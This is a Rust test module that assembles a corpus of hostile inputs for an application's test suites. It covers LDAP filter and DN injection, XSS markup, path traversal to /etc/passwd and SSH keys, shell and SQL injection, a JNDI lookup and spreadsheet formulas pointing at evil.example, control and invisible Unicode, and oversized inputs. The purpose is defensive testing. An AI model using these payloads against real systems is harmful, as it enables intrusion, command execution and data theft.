//! One corpus of hostile inputs for every suite: each text belongs to a family, and a family says what must not happen.
//! The same texts enter the operations, the command line and the window.
//! Never a real person, host or payload that would harm a machine where a check fails: what runs only leaves a mark.

use std::collections::HashSet;

/// What an executed payload leaves behind, wherever it runs: the window's suite looks for it.
#[allow(dead_code, reason = "for the suite of the window")]
pub const MARK: &str = "guichet-execute";

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Family {
    Filter,
    Dn,
    Control,
    Invisible,
    Huge,
    Strip,
    Markup,
    Path,
    Format,
    Marks,
    Digits,
    Protocol,
    Words,
}

impl Family {
    pub const ALL: [Family; 13] = [
        Family::Filter,
        Family::Dn,
        Family::Control,
        Family::Invisible,
        Family::Huge,
        Family::Strip,
        Family::Markup,
        Family::Path,
        Family::Format,
        Family::Marks,
        Family::Digits,
        Family::Protocol,
        Family::Words,
    ];

    /// What this family tries, and must not get.
    pub fn must_not(self) -> &'static str {
        match self {
            Family::Filter => "add, widen or break a clause of an LDAP filter",
            Family::Dn => "add or change a component of a DN",
            Family::Control => "reach a sentence, a log or a file as control characters",
            Family::Invisible => "show one text and mean another",
            Family::Huge => "take memory or time with it, or come back in an answer",
            Family::Strip => "pass for a document that was read",
            Family::Markup => "become an element, run, or leave the window",
            Family::Path => "write or read outside the folder that was meant",
            Family::Format => "be interpreted by a formatter, a template or a shell",
            Family::Marks => "panic where a character is cut, or cover its neighbours",
            Family::Digits => "overflow a number or a date",
            Family::Protocol => "add a line, a header or a control to what is sent",
            Family::Words => "come back as the error of a program",
        }
    }
}

#[derive(Debug, Clone)]
pub struct Hostile {
    pub family: Family,
    pub text: String,
}

impl Hostile {
    /// Short enough for the message of a failing test.
    pub fn shown(&self) -> String {
        let start: String = self.text.chars().take(60).collect();
        let length = self.text.len();
        format!("{:?} {start:?} ({length} bytes)", self.family)
    }
}

const FILTER: &[&str] = &[
    "*",
    "**",
    "***",
    "(",
    ")",
    "()",
    "\\",
    "\\\\",
    "\\2a",
    "\\2A\\29",
    "\\zz",
    "*)",
    "(*",
    ")(uid=*",
    ")(uid=*)",
    "*)(uid=*",
    "*)(uid=*))(|(uid=*",
    "a)(|(uid=*))",
    "croux)(objectClass=*",
    "*)(objectClass=*",
    "x)(!(uid=y)",
    "x)(|(userPassword=*)",
    "x*)(pwdReset=TRUE",
    "1)(uid=*",
    "1)(|(cn=*)(sn=*",
    "1*)(cn=*",
    "0*",
    "2026*",
    "1)(uid:caseIgnoreMatch:=croux",
    "1)(uid:dn:=croux",
    "1)(uid~=croux",
    "1)(uid>=a",
    "1)(uid<=z",
    "&(uid=1*)",
    "|(uid=1*)",
    "!(uid=1)",
    "(|(uid=1*)(mail=@*))",
    "@)(mail=*",
    "*@*",
    "%28uid=1%2a%29",
    "1))(|(uid=*)((",
    "1)(supannMailPrive=*@*",
];

const DN: &[&str] = &[
    ",",
    ",,",
    "=",
    "+",
    ";",
    "#",
    "\"",
    "<",
    ">",
    "#04024869",
    " croux",
    "croux ",
    "croux,ou=people",
    "croux,cn=admin",
    "croux+cn=admin",
    "croux;ou=people",
    "croux\\",
    "croux\\,ou=people",
    "croux\\2Cou=people",
    "\"croux\"",
    "uid=croux",
    "uid=croux,uid=x",
    "x,uid=croux",
    "cn=config",
    "croux\u{0}",
    "\u{0},dc=example",
    "dc=univ-rivemer,dc=example",
];

const CONTROL: &[&str] = &[
    "\0",
    "\0\0\0\0",
    "lef\0evre",
    "lefevre\0",
    "\u{1}\u{2}\u{3}",
    "\u{7}\u{7}\u{7}",
    "\u{8}\u{8}\u{8}lefevre",
    "\t\t\t",
    "lefevre\tines",
    "\n",
    "\r\n",
    "lefevre\r\nines",
    "\u{b}\u{c}",
    "\u{1b}[2J",
    "\u{1b}]0;titre\u{7}",
    "\u{1b}[31mrouge",
    "\u{7f}\u{7f}",
    "\u{80}\u{85}\u{9b}31m",
    "16/03/1994\0",
];

const INVISIBLE: &[&str] = &[
    "\u{202e}",
    "\u{202e}ertuaL",
    "lef\u{202e}erv\u{202c}e",
    "\u{202a}\u{202b}\u{202d}\u{202c}",
    "\u{2066}lefevre\u{2069}",
    "\u{2067}\u{2068}\u{2069}",
    "\u{200e}\u{200f}",
    "\u{61c}",
    "\u{200b}",
    "le\u{200b}fevre",
    "le\u{200d}fe\u{200c}vre",
    "\u{feff}lefevre",
    "le\u{ad}fevre",
    "\u{2060}\u{2061}\u{2062}",
    "\u{180e}",
    "\u{e0001}\u{e0041}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "\u{2028}\u{2029}",
    "\u{3000}\u{2003}\u{a0}",
    "croux\u{200b}",
];

/// Strips of machine-readable zones, none of which holds: cut, altered or of another world.
const STRIP: &[&str] = &[
    "IDFRA",
    "IDFRAX4RTBPFW46",
    "IDFRAX4RTBPFW46<<<<<<<<<<<<<<<",
    "IDFRAX4RTBPFW46<<<<<<<<<<<<<<<\n9403165F3108228FRA<<<<<<<<<<<2",
    "IDFRAX4RTBPFW46<<<<<<<<<<<<<<<\n9403165F3108228FRA<<<<<<<<<<<2\nLEFEVRE",
    "IDFRAX4RTBPFW46<<<<<<<<<<<<<<<\n9403175F3108228FRA<<<<<<<<<<<2\nLEFEVRE<NUNEZ<<INES<CAMILLE<<<",
    "IDFRAX4RTBPFW46<<<<<<<<<<<<<<<\n9403165F3108228FRA<<<<<<<<<<<3\nLEFEVRE<NUNEZ<<INES<CAMILLE<<<",
    "IDFRAX4RTBPFW46<<<<<<<<<<<<<<\n9403165F3108228FRA<<<<<<<<<<<2\nLEFEVRE<NUNEZ<<INES<CAMILLE<<<",
    "\u{202e}IDFRAX4RTBPFW46<<<<<<<<<<<<<<<",
    "P<FRA<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<\n00000000000000000000000000000000000000000000",
    "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<\nL898902C36UTO7408122F1204159ZE184226B<<<<<11",
    "P<UTO\u{0}<<ANNA<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<\nL898902C36UTO7408122F1204159ZE184226B<<<<<10",
    "<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<",
    "<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<\n<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<\n<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<",
    "IDFRAÉÀÇ<<<<<<<<<<<<<<<<<<<<<<",
    "D1FRA<<<<<<<<<<<<<<<<<<<<<<<<<",
    "9403165F3108228FRA<<<<<<<<<<<2",
    "DC04FR000001123F1636FR4AA1BBENOMDETEST",
];

const MARKUP: &[&str] = &[
    "<script>document.title='guichet-execute'</script>",
    "</script><script>document.title='guichet-execute'</script>",
    "<img src=x onerror=\"document.title='guichet-execute'\">",
    "<svg onload=\"document.title='guichet-execute'\">",
    "<svg><animate onbegin=\"document.title='guichet-execute'\" attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.document.title='guichet-execute'</script>\"></iframe>",
    "<iframe src=\"javascript:document.title='guichet-execute'\"></iframe>",
    "<a href=\"javascript:document.title='guichet-execute'\">ici</a>",
    "<details open ontoggle=\"document.title='guichet-execute'\">",
    "<body onload=\"document.title='guichet-execute'\">",
    "<input autofocus onfocus=\"document.title='guichet-execute'\">",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Envoyer</button></form>",
    "<object data=\"data:text/html,<script>document.title='guichet-execute'</script>\"></object>",
    "<math><mi xlink:href=\"javascript:document.title='guichet-execute'\">",
    "<!--",
    "--><b>",
    "]]><b>",
    "&lt;b&gt;",
    "&#x3c;script&#x3e;",
    "\\u003cscript\\u003e",
    "\"><img src=x onerror=\"document.title='guichet-execute'\">",
    "' onfocus='document.title=\"guichet-execute\"' autofocus x='",
    "javascript:document.title='guichet-execute'",
    "data:text/html,<script>document.title='guichet-execute'</script>",
    "{@html '<img src=x>'}",
    "{#if true}{alert(1)}{/if}",
    "{document.title='guichet-execute'}",
    "${document.title='guichet-execute'}",
    "{{constructor.constructor('return document')()}}",
    "__proto__",
    "constructor",
    "https://evil.example/?q=lefevre",
    "tauri://localhost/",
    "ipc://localhost/sign_in",
];

const PATH: &[&str] = &[
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "//etc//passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "%00",
    "..%c0%af..",
    "~/.ssh/id_ed25519",
    "$HOME/.bashrc",
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\serveur\\partage",
    "/dev/stdin",
    ".",
    "..",
    "/",
    "-",
    "--help",
    "../classes/Accueil",
    "Accueil/../Atelier",
    "Accueil?waitjob=false",
    "Accueil#fragment",
];

const FORMAT: &[&str] = &[
    "%s%s%s%n",
    "%x%x%x%x",
    "{}{}{}",
    "{0:?}",
    "{login}",
    "{password}",
    "{structures}",
    "**{name}**",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| reboot",
    "&& reboot",
    "$IFS",
    "'; DROP TABLE people; --",
    "\" OR 1=1 --",
    "' UNION SELECT * FROM people --",
    "lefevre' OR '1'='1",
    "NEAR(lefevre ines)",
    "\"lefevre\" AND ines*",
    "${jndi:ldap://evil.example/a}",
    "=HYPERLINK(\"//evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

const MARKS: &[&str] = &[
    "\u{301}",
    "\u{301}\u{301}\u{301}\u{301}",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
    "\u{20dd}",
    "\u{fe0f}",
    "\u{1f3fb}",
    "🦀",
    "🦀🦀🦀🦀",
    "👨\u{200d}👩\u{200d}👧",
    "\u{fdfd}",
    "\u{fffd}\u{fffd}",
    "\u{ffff}",
    "\u{10ffff}",
    "ﷺ",
    "Ω≈ç√∫˜µ≤≥÷",
    "ﬀﬁﬂ",
    "İıſK",
    "ǅungla",
    "ß",
    "ᵃᵇᶜ",
];

const DIGITS: &[&str] = &[
    "0",
    "-1",
    "00000000000000000000000000000000",
    "99999999999999999999999999999999",
    "18446744073709551616",
    "9223372036854775808",
    "-9223372036854775809",
    "1e308",
    "NaN",
    "Infinity",
    "0x41414141",
    "99/99/9999",
    "31/02/2024",
    "00/00/0000",
    "29/02/1900",
    "16/03/-1994",
    "١٦/٠٣/١٩٩٤",
    "１６０３１９９４",
    "16031994160319941603199416031994",
    "½¾⅓",
];

const PROTOCOL: &[&str] = &[
    "croux\r\ndn: cn=admin",
    "lefevre\nuserPassword: x",
    "a\r\nSubject: b",
    "a\r\n.\r\nQUIT",
    "a\r\n\r\nHTTP/1.1 200 OK",
    "dn:: Y249YWRtaW4=",
    "{\"login\":\"croux\"}",
    "[\"croux\"]",
    "null",
    "true",
    "\"",
    "{\"zone\":[\"IDFRA\"],\"photo\":true}",
    "a = \"b\"\n[directory]\nuris = []",
];

const WORDS: &[&str] = &[
    "error",
    "undefined",
    "[object Object]",
    "Err(Unreachable(\"x\"))",
    "panicked at src/main.rs:1:1",
    "Permission denied (os error 13)",
    "",
    " ",
    "                                        ",
];

/// At least two hundred texts, each once. The huge ones come last.
pub fn corpus() -> Vec<Hostile> {
    let listed: [(Family, &[&str]); 12] = [
        (Family::Filter, FILTER),
        (Family::Dn, DN),
        (Family::Control, CONTROL),
        (Family::Invisible, INVISIBLE),
        (Family::Strip, STRIP),
        (Family::Markup, MARKUP),
        (Family::Path, PATH),
        (Family::Format, FORMAT),
        (Family::Marks, MARKS),
        (Family::Digits, DIGITS),
        (Family::Protocol, PROTOCOL),
        (Family::Words, WORDS),
    ];
    let mut texts: Vec<Hostile> = listed
        .iter()
        .flat_map(|(family, texts)| {
            texts.iter().map(|text| Hostile {
                family: *family,
                text: (*text).to_owned(),
            })
        })
        .collect();
    texts.extend(huge().into_iter().map(|text| Hostile {
        family: Family::Huge,
        text,
    }));
    let mut seen = HashSet::new();
    texts.retain(|hostile| seen.insert(hostile.text.clone()));
    texts
}

/// Ten megabytes of one thing, and what is only just too long.
fn huge() -> Vec<String> {
    const TEN_MEGABYTES: usize = 10 << 20;
    let repeated = |piece: &str| piece.repeat(TEN_MEGABYTES / piece.len());
    vec![
        "a".repeat(201),
        "lefevre ".repeat(26),
        "9".repeat(300),
        "\u{301}".repeat(400),
        repeated("a"),
        repeated("(uid=*)"),
        repeated("\0"),
        repeated("9"),
        repeated("<b>"),
        repeated("IDFRA<<<<<<<<<<<<<<<<<<<<<<<<<\n"),
        repeated("\u{301}"),
        repeated("../"),
    ]
}
